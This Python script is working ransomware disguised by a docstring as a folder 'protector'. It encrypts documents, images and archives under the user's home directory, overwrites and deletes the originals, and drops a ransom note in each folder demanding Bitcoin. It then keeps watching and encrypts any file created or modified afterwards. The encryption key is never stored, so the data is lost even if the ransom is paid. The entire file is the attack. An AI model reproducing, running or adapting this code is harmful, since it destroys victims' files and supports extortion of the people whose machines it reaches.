"""Folder 'protector': encrypts every document under the user's home, removes
the plaintext, and keeps watching so that newly created files get the same
treatment. Leaves a note explaining how to get the key back."""
import os
import sys
import time
import uuid
from pathlib import Path

from cryptography.fernet import Fernet
from watchdog.events import FileSystemEventHandler, FileCreatedEvent, FileModifiedEvent
from watchdog.observers import Observer

TARGET_SUFFIXES = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png",
                   ".txt", ".csv", ".pptx", ".odt", ".sql", ".zip", ".psd"}
LOCKED_SUFFIX = ".lck"
NOTE_NAME = "READ_ME_TO_RESTORE.txt"
NOTE = """Your files have been encrypted.
To receive the decryption key send 0.05 BTC to bc1q9z8v7xk4w2m0d3h5r6t8y0u2p4s6f8j0l1q3
and e-mail your ID {victim} to restore@protonmail.example
"""


def fresh_key() -> bytes:
    return Fernet.generate_key()


class Locker:
    def __init__(self, key: bytes, victim: str):
        self.fernet = Fernet(key)
        self.victim = victim
        self.count = 0

    def wanted(self, path: Path) -> bool:
        return (path.is_file() and path.suffix.lower() in TARGET_SUFFIXES
                and not path.name.endswith(LOCKED_SUFFIX) and path.name != NOTE_NAME)

    def lock(self, path: Path) -> None:
        if not self.wanted(path):
            return
        try:
            plaintext = path.read_bytes()
            path.with_name(path.name + LOCKED_SUFFIX).write_bytes(self.fernet.encrypt(plaintext))
            # overwrite then remove the original so it cannot be undeleted
            with open(path, "r+b") as fh:
                fh.write(os.urandom(len(plaintext)))
            path.unlink()
            self.count += 1
        except (PermissionError, OSError):
            pass

    def drop_note(self, folder: Path) -> None:
        note = folder / NOTE_NAME
        if not note.exists():
            try:
                note.write_text(NOTE.format(victim=self.victim))
            except OSError:
                pass

    def sweep(self, root: Path) -> None:
        for dirpath, _dirs, files in os.walk(root):
            folder = Path(dirpath)
            for name in files:
                self.lock(folder / name)
            self.drop_note(folder)


class LockOnCreate(FileSystemEventHandler):
    def __init__(self, locker: Locker):
        self.locker = locker

    def on_created(self, event):
        if isinstance(event, FileCreatedEvent):
            time.sleep(0.5)  # let the writer finish
            self.locker.lock(Path(event.src_path))

    def on_modified(self, event):
        if isinstance(event, FileModifiedEvent):
            self.locker.lock(Path(event.src_path))


def main() -> None:
    root = Path(sys.argv[1]) if len(sys.argv) > 1 else Path.home()
    key = fresh_key()
    victim = uuid.uuid4().hex[:16]
    locker = Locker(key, victim)
    locker.sweep(root)

    observer = Observer()
    observer.schedule(LockOnCreate(locker), str(root), recursive=True)
    observer.start()
    try:
        while True:
            time.sleep(5)
    finally:
        observer.stop()
        observer.join()


if __name__ == "__main__":
    main()
